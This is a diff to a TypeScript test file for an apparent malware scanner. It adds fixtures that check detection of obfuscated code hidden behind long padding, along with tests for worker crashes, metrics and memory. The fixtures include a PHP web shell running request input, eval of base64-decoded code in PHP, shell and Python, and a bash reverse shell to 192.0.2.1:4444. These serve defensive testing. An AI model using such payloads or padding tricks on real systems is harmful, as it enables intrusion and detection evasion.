@@ -3,8 +3,11 @@ import { cp, mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'n
 import { join } from 'node:path'
 import { setTimeout as wait } from 'node:timers/promises'
 import { fileURLToPath } from 'node:url'
+import { messages } from '@guardimesh/contracts'
+import { UnixSocketClient } from '@guardimesh/kit'
 import { ObfuscationEngine } from '@guardimesh/scanner/engines/obfuscation/obfuscation-engine.js'
 import { TrialEngine } from '@guardimesh/scanner/engines/obfuscation/trial-engine.js'
+import { residentBytes } from '@guardimesh/signature-format'
 import { temporaryFolder } from '@guardimesh/testbed/temporary-folder.js'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { never, openFile } from '../engines/fixtures.js'
@@ -110,6 +113,21 @@ test.each([{ mib: 1 }, { mib: 34 }])('detects code behind $mib MiB of comments',
   expect(await verdictOf('large', script.subarray(0, -40 - blob.length))).toEqual({ kind: 'clean' })
 })
 
+const comments = '# comment\n// comment\n'.repeat(160_000)
+test.each([
+  { name: 'blanks.php', content: `${' '.repeat(600)}<?php eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code' },
+  { name: 'pad.php', content: `<?php\n${comments}eval(base64_decode('${blob}'));`, rule: 'PHP_Eval_Of_Encoded_Code' },
+  { name: 'pad-request.php', content: `<?php\n${comments}system($_${'GET'}['c']);`, rule: 'PHP_Runs_What_A_Request_Says' },
+  { name: 'pad.sh', content: `#!/bin/sh\n${comments}echo ${blob} | base64 -d | sh\n`, rule: 'Shell_Runs_Encoded_Code' },
+  { name: 'pad.py', content: `import base64\n${comments}exec(base64.b64decode('${blob}'))\n`, rule: 'Python_Runs_Encoded_Code' },
+  { name: 'pad.js', content: `${comments}eval("${'\\x61\\x3d'.repeat(300)}")`, rule: 'Script_Of_Hex_Escapes' },
+  { name: 'pad-2.js', content: `const a = "${'\\x61\\x3d'.repeat(300)}"\neval(a)\n${comments}`, rule: 'Script_Of_Hex_Escapes' },
+  { name: 'pad-3.js', content: `${'var _0x1a2b3c=1;'.repeat(60)}${comments}eval(_0x1a2b3c)`, rule: 'JavaScript_Obfuscator' },
+  { name: 'pad-4', content: `#!/bin/sh\n${comments}bash -i >& /dev/${'tcp'}/192.0.2.1/4444 0>&1\n`, rule: 'Shell_Reverse_Connection' },
+])('$rule detects $name behind padding', async ({ name, content, rule }) => {
+  expect(await verdictOf(name, content)).toMatchObject({ kind: 'infected', matches: [{ signatureName: rule }] })
+})
+
 test('reports that a file above the limit of windows was scanned in part', async () => {
   const path = join(folder, 'files', 'sparse.sh')
   await writeFile(path, '#!/bin/sh\n')
@@ -131,6 +149,48 @@ test('switches to a new generation during scans', async () => {
   for (const verdict of await Promise.all(scans)) expect(verdict.kind).toBe('infected')
   await scanner.wrote('"generation":"g2"')
   expect(await verdictOf('g2.sh', '#!/bin/sh\n# only in g2\n')).toMatchObject({ matches: [{ signatureName: 'New' }] })
+})
+
+const workersOf = async () => (await readFile(`/proc/${scanner.pid}/task/${scanner.pid}/children`, 'utf8')).trim().split(' ').map(Number)
+const metrics = async () => (await probe(probeSocket(), '/metrics')).body
+
+test('judges all files while worker processes are killed', async () => {
+  const scans = Array.from({ length: 60 }, (_, n) => verdictOf(`killed-${n}.sh`, `#!/bin/sh\n# only in g2, ${n}\n`))
+  for (const pid of await workersOf()) process.kill(pid, 'SIGKILL')
+  for (const verdict of await Promise.all(scans)) expect(verdict.kind).toBe('infected')
+  expect(await metrics()).toMatch(/guardimesh_obfuscation_workers_replaced_total\{cause="crash"\} [12]\n/)
+  expect(scanner.output()).toContain('"cause":"crash"')
+})
+
+test('reports when a scan last succeeded, also while nothing is scanned', { timeout: 60_000 }, async () => {
+  const lastSuccess = async () => Number(/^guardimesh_obfuscation_last_success_timestamp_seconds (\S+)$/m.exec(await metrics())?.[1])
+  const before = await lastSuccess()
+  expect(Date.now() / 1000 - before).toBeLessThan(60)
+  while ((await lastSuccess()) === before) await wait(200)
+})
+
+test('stays within its memory over 100,000 distinct scripts', { timeout: 120_000 }, async () => {
+  const client = new UnixSocketClient({
+    ...{ socketPath: join(folder, 'run', 'obfuscation.sock'), timeoutMs: 60_000 },
+    ...{ request: messages.ObfuscationRequest, answer: messages.ObfuscationResponse },
+  })
+  const fileName = Buffer.from('a.sh')
+  const scan = async (number: number) => {
+    const content = Buffer.from(`#!/bin/sh\necho ${number}\n`)
+    expect((await client.ask({ content, sizeBytes: content.length, fileName })).matches ?? []).toEqual([])
+  }
+  const scanRange = async (from: number, to: number) => {
+    for (let number = from; number < to; number += 8) await Promise.all(Array.from({ length: 8 }, (_, offset) => scan(number + offset)))
+  }
+  const residentBytesOfAll = async () => [scanner.pid, ...(await workersOf())].reduce((sum, pid) => sum + residentBytes(pid).nowBytes, 0)
+  const replaced = async () => (await metrics()).match(/workers_replaced_total\{.*/g)
+  const replacedBefore = await replaced()
+  await scanRange(0, 10_000)
+  const bytesBefore = await residentBytesOfAll()
+  await scanRange(10_000, 100_000)
+  expect((await residentBytesOfAll()) / bytesBefore).toBeLessThan(1.1)
+  expect(await replaced()).toEqual(replacedBefore)
+  client[Symbol.dispose]()
 })
 
 describe('rules of a trial', () => {
